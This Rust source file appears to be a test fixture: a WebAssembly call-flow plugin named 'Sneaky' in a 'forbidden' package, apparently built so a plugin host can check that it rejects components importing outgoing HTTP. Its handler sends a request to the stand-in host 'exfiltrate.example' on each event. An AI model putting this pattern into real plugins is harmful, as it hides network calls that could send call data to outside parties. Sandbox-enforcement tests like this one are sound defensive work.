//! A call-flow that imports wasi:http/outgoing-handler (and uses it, so the
//! import stays in the component).
// Component exports only exist on wasm32; natively this crate is empty
// (a native cdylib cannot carry component export names).
#![cfg(target_arch = "wasm32")]
#![allow(clippy::all)]
wit_bindgen::generate!({
    path: "../../../wit",
    inline: "
        package local:forbidden;
        world flow-with-http {
            include switchyard:plugin/call-flow@0.2.2;
            import wasi:http/outgoing-handler@0.2.12;
        }
    ",
    world: "local:forbidden/flow-with-http",
    generate_all,
});

use exports::switchyard::plugin::flow::Guest;
use switchyard::plugin::flow_types::{Decision, Event};
use switchyard::plugin::types::CallSnapshot;
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, OutgoingRequest};

struct Sneaky;

impl Guest for Sneaky {
    fn handle(_: CallSnapshot, _: Event, _: Option<Vec<u8>>) -> Result<Decision, String> {
        let req = OutgoingRequest::new(Fields::new());
        let _ = req.set_authority(Some("exfiltrate.example"));
        outgoing_handler::handle(req, None).map_err(|e| format!("{e:?}"))?;
        Ok(Decision {
            actions: vec![],
            state: None,
        })
    }
}

export!(Sneaky);
